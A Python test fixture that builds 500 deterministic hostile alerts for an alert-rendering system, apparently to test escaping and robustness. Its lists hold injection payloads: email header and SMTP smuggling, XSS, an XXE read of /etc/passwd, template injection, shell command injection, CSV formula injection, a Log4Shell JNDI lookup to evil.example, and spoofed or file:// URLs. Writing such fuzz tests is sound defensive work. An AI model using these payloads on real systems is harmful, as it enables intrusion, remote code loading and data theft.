"""Five hundred hostile alerts, generated: what a stranger may put into a title, a name or an address."""

import random
from datetime import UTC, datetime

from alerts.display import Span
from alerts.views import AlertView, Brought, Finding, Follows, Outlet
from alerts.voices import First, Voices

COUNT = 500
WHEN = datetime(2026, 3, 1, 9, 0, tzinfo=UTC)
#: What breaks out of a place: one stretch for each language that a message is written in on its way.
BREAKS = [
    "\r\nBcc: evil@example.org\r\n\r\n<html>",
    "\r\n.\r\nMAIL FROM:<evil@example.org>\r\nRCPT TO:<evil@example.org>\r\nDATA\r\n",
    "\nX-Evil: 1",
    "\rX-Evil: 1",
    "%0d%0aX-Evil:%201",
    "\x85X-Evil: 1",
    "\u2028X-Evil: 1\u2029",
    "=?utf-8?q?x=0ABcc:_evil@example.org?=",
    "=?utf-8?b?" + "QmNjOiBldmls" * 40 + "?=",
    "nul\x00after",
    "\x1b]0;evil\x07\x1b[2J\x1b[31m",
    "\u202egnp.exe\u202c\u2066x\u2069\u200f\u061c",
    "\ufeff\u200b\u2060\ufffe\U000e0001",
    "lone \ud800 and \udfff",
    "<script>document.title='evil'</script>",
    "<img src=x onerror=alert(1)>",
    "</td></tr></table></body></html><base href=//evil.example>",
    '"><a href="javascript:alert(1)">click</a>',
    "'><style>*{display:none}</style>",
    "<![endif]--><!--[if mso]><v:rect>",
    "]]><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
    "&#x3c;script&#x3e;&lt;b&gt;&amp;amp;",
    "{{ 7 * 7 }}{% raise %}{# x #}${7*7}#{7*7}<%= 7*7 %>",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    '"}, {"evil": 1, "x": "',
    '\\", \\u0022 \\ud800 \\',
    "`touch CANARY` $(touch CANARY) ; touch CANARY # | touch CANARY & \n touch CANARY\n",
    "' ; touch CANARY ; '\" ; touch CANARY ; \"",
    "$TOCSIN_ID ${PATH} ~ * ? [a-z] !!",
    "--help -rf / -o ProxyCommand=touch",
    "=cmd|' /C calc'!A0\t+1\t@SUM(1)",
    "@everyone @here <!channel> <@U123> @room",
    "[click](javascript:alert(1)) **bold** <https://evil.example|bank>",
    "--=_m-1--\r\nContent-Type: text/html\r\n\r\nevil",
    "From evil@example.org Sun Mar  1 09:00:00 2026",
    "${jndi:ldap://evil.example/a} %s%n%x {0.__class__}",
    "😀👩‍👩‍👧‍👦🇺🇦" * 40,
    "Z̸̢͎͑a̷" * 100,
    "x" * 3000,
    "",
]
ADDRESSES = [
    "https://news.example.org/{}",
    "https://аррӏе.example/{}",  # the letters are Cyrillic
    "https://xn--80ak6aa92e.example/{}",
    "https://paypal.com@evil.example/{}",
    "https://evil.example\\@news.example.org/{}",
    "javascript:alert(1)//{}",
    "data:text/html,<script>alert(1)</script>{}",
    "https://news.example.org/{}\r\nX-Evil: 1",
    'https://news.example.org/"onmouseover=alert(1) {}',
    "https://news.example.org/\u202e{}",
    "https://news.example.org/\x00{}",
    "//evil.example/{}",
    "file:///etc/passwd#{}",
    "https://[::1/{}",
    "https://news.example.org:99999/{}",
    "https://news.example.org/" + "a" * 5000 + "{}",
    "",
]


def hostile_alerts() -> list[AlertView]:
    """Return the same alerts every time; the number of each stands at the beginning of its title."""
    chance = random.Random(6)
    return [_alert(number, chance) for number in range(COUNT)]


def _alert(number: int, chance: random.Random) -> AlertView:
    def words() -> str:
        return " ".join(chance.sample(BREAKS, chance.randint(1, 3)))

    first = BREAKS[number % len(BREAKS)]
    title = f"No{number}. {first} {words()}"
    if number % 100 == 99:
        title += (first or " ") * (10_000_000 // len(first or " "))
    evidence = Finding(words(), "title", f"No{number}", Span(0, 2 + len(str(number))), words(), words(), words())
    address = ADDRESSES[number % len(ADDRESSES)].format(number)
    return AlertView(
        id=number,
        watch=words(),
        priority=chance.choice(["low", "normal", "high"]),
        story=number,
        title=title,
        url=address,
        source=words(),
        seen_at=WHEN,
        language=words(),
        summary=words(),
        body=words(),
        evidence=(evidence,),
        outlets=(Outlet(words(), words(), chance.choice(ADDRESSES).format(number), words()),),
        outlets_in_all=1,
        changes=(Brought(words(), Outlet(words(), words(), address, words())),) * (number % 2),
        voices=Voices(("a", "b"), (), (), (), (), First(1, words(), address, words(), WHEN, True)),
        follows=Follows(number, words()) if number % 3 == 0 else None,
    )
